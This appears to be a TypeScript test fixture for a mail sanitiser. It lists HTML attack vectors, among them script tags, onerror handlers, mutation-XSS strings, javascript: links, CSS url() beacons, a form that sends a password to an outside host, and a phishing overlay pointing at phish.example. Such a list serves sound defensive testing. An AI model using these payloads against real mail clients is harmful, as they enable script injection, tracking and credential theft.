/** One way in which a mail may try to run something, fetch something or send something. `outside` is where it would call. */
export interface Attack {
  readonly name: string
  html(outside: string): string
}

const steal = (outside: string, name: string) => `document.title='owned';fetch('${outside}/${name}-fetch').catch(()=>0);new Image().src='${outside}/${name}'`

/** Vectors known from mail sanitisers' histories, and what a policy alone has to stop. */
export const attacks: readonly Attack[] = [
  { name: "script", html: (outside) => `<script>${steal(outside, "script")}</script><script src="${outside}/script.js"></script>` },
  { name: "onerror", html: (outside) => `<img src=x onerror="${steal(outside, "onerror")}"><img src="${outside}/pixel.gif" width=1 height=1><video><source onerror="${steal(outside, "source")}"></video>` },
  { name: "broken-tags", html: (outside) => `<img/src='x'/onerror='${steal(outside, "broken").replaceAll("'", "&#39;")}'><scr<script>ipt>${steal(outside, "nested")}</scr</script>ipt><<img src=x onerror=alert(1)//` },
  { name: "iframe", html: (outside) => `<iframe src="${outside}/iframe"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed">` },
  { name: "meta-refresh", html: (outside) => `<meta http-equiv="refresh" content="0;url=${outside}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">` },
  { name: "base", html: (outside) => `<base href="${outside}/base/"><img src="relative.gif"><a href="relative">relative</a>` },
  { name: "css-url", html: (outside) => `<style>@import url(${outside}/import.css);body{background:url(${outside}/body.png)}@font-face{font-family:x;src:url(${outside}/font.woff)}p{font-family:x}</style><p style="background:url('${outside}/style.png')">p</p><p style="background:u\\72l(${outside}/escaped.png)">p</p><div style="background-image:image-set('${outside}/set.png' 1x)">d</div>` },
  { name: "link", html: (outside) => `<link rel="stylesheet" href="${outside}/sheet.css"><link rel="prefetch" href="${outside}/prefetch"><link rel="dns-prefetch" href="${outside}"><link rel="icon" href="${outside}/icon.ico">` },
  { name: "svg", html: (outside) => `<svg onload="${steal(outside, "svg")}"><image href="${outside}/svg.png"/><use href="${outside}/use.svg#a"/><foreignObject><iframe src="${outside}/foreign"></iframe></foreignObject><animate onbegin="${steal(outside, "animate")}" attributeName=x dur=1s></svg>` },
  { name: "math", html: (outside) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${steal(outside, "math").replaceAll("'", "&#39;")}&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` },
  { name: "form", html: (outside) => `<form action="${outside}/form" method="get" id="f"><input name="password" value="secret" autofocus onfocus="${steal(outside, "focus")}"><button>Weiter</button></form><button form="f" formaction="${outside}/formaction">Senden</button>` },
  { name: "media", html: (outside) => `<video src="${outside}/video" poster="${outside}/poster" autoplay></video><audio src="${outside}/audio" autoplay></audio><picture><source srcset="${outside}/srcset.png"><img srcset="${outside}/img-srcset.png 2x"></picture><table background="${outside}/table.png"><tr><td background="${outside}/cell.png">x</td></tr></table>` },
  { name: "javascript-link", html: (outside) => `<a id="go" href="javascript:${steal(outside, "href")}">hier klicken</a><a href="java&#10;script:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>` },
  { name: "overlay", html: () => `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Ihre Sitzung ist abgelaufen. <a href="https://phish.example">Anmelden</a></div>` },
]
